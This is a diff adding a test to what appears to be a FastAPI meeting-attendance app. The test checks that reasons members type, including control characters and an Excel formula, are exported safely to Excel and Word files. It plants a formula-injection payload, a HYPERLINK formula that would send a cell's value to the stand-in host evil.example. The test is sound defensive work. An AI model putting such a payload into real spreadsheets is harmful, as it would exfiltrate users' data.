@@ -413,3 +413,26 @@ async def test_the_minutes_suggest_no_signer_recorded_away(desk_app: FastAPI, de
         page = (await desk.get(f"/desk/meetings/{meeting_id}/minutes")).text
     assert 'name="chair" maxlength="120" value="Võ Thị Thanh"' in page
     assert 'value="Nguyễn Đức Anh"' not in page
+
+
+async def test_what_a_member_typed_cannot_break_or_arm_the_files(desk_app: FastAPI, demo: Demo) -> None:
+    """A reason with control characters made every Excel and Word file of the meeting answer 500
+    (tester B), and one starting with "=" became a live formula in the Excel file."""
+    from openpyxl import load_workbook
+
+    runtime = app_runtime(desk_app)
+    meeting_id, members = await held_meeting(desk_app)
+    planted = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'
+    async with desk_client(desk_app, await member_named(runtime, "Võ Thị Thanh")) as desk:
+        form = {f"state-{members[2].id}": "excused", f"reason-{members[2].id}": "Ốm\x1b\x0b nằm viện"}
+        form |= {f"state-{members[3].id}": "excused", f"reason-{members[3].id}": planted}
+        assert (await desk.post(f"/desk/meetings/{meeting_id}/attendance", form)).status_code == 303
+        sheet = await desk.get(f"/desk/meetings/{meeting_id}/attendance?format=xlsx")
+        minutes = await desk.get(f"/desk/meetings/{meeting_id}/minutes?format=docx")
+    assert sheet.status_code == 200 and minutes.status_code == 200
+    book = load_workbook(io.BytesIO(sheet.content))
+    cells = [cell for row in book.active.iter_rows() for cell in row]  # type: ignore[union-attr]
+    assert any(cell.value == "Ốm nằm viện" for cell in cells)
+    [armed] = [cell for cell in cells if cell.value == planted]
+    assert armed.data_type == "s"  # words, not a formula
+    assert "Ốm nằm viện" in docx_text(minutes.content)
